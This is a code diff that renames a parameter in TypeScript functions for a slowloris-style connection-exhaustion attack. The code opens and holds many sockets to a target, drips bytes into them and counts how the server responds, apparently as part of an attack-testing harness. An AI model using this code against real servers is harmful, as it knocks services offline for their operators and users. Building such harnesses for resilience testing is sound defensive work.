@@ -19,17 +19,17 @@ interface HoldOptions {
 }
 
 /** Opens connections as fast as the server accepts them, and holds them until the attack is over. */
-export async function holdConnections(at: AttackContext, options: HoldOptions): Promise<void> {
+export async function holdConnections(context: AttackContext, options: HoldOptions): Promise<void> {
   const { connections, first, drip, reads = true } = options;
   const open = new Set<Socket>();
   const openOne = async (index: number) => {
-    const socket = await openConnection(at);
+    const socket = await openConnection(context);
     if (socket === undefined) return;
     open.add(socket);
-    at.tally.count('connected');
+    context.tally.count('connected');
     socket.on('close', () => {
       open.delete(socket);
-      if (!at.signal.aborted) at.tally.count('closed by server');
+      if (!context.signal.aborted) context.tally.count('closed by server');
     });
     if (reads) socket.resume();
     else socket.pause();
@@ -38,29 +38,29 @@ export async function holdConnections(at: AttackContext, options: HoldOptions): 
   const indexes = Array.from({ length: connections }, (_, index) => index).values();
   const opener = async () => {
     for (const index of indexes) {
-      if (at.signal.aborted) return;
+      if (context.signal.aborted) return;
       await openOne(index);
     }
   };
   const opening = Promise.all(Array.from({ length: AT_ONCE }, opener));
-  for (let turn = 0; drip && !at.signal.aborted; turn += 1) {
+  for (let turn = 0; drip && !context.signal.aborted; turn += 1) {
     for (const socket of open) socket.write(drip.bytes(turn));
-    await sleep(drip.everyMs, undefined, { signal: at.signal }).catch(() => undefined);
+    await sleep(drip.everyMs, undefined, { signal: context.signal }).catch(() => undefined);
   }
   await opening;
-  await untilOver(at);
+  await untilOver(context);
   for (const socket of open) socket.destroy();
 }
 
 /** Connects from the attacker's address. Resolves with undefined if that fails, and counts the error. */
-export function openConnection(at: AttackContext): Promise<Socket | undefined> {
-  const { hostname, port } = new URL(at.url);
+export function openConnection(context: AttackContext): Promise<Socket | undefined> {
+  const { hostname, port } = new URL(context.url);
   return new Promise((resolve) => {
-    const socket = connect({ host: hostname, port: Number(port), localAddress: at.address });
+    const socket = connect({ host: hostname, port: Number(port), localAddress: context.address });
     const timer = setTimeout(() => socket.destroy(new Error('no connection in time')), CONNECT_MS);
     const onError = (error: Error) => {
       clearTimeout(timer);
-      at.tally.count(errorLabel(error));
+      context.tally.count(errorLabel(error));
       resolve(undefined);
     };
     socket.once('error', onError);
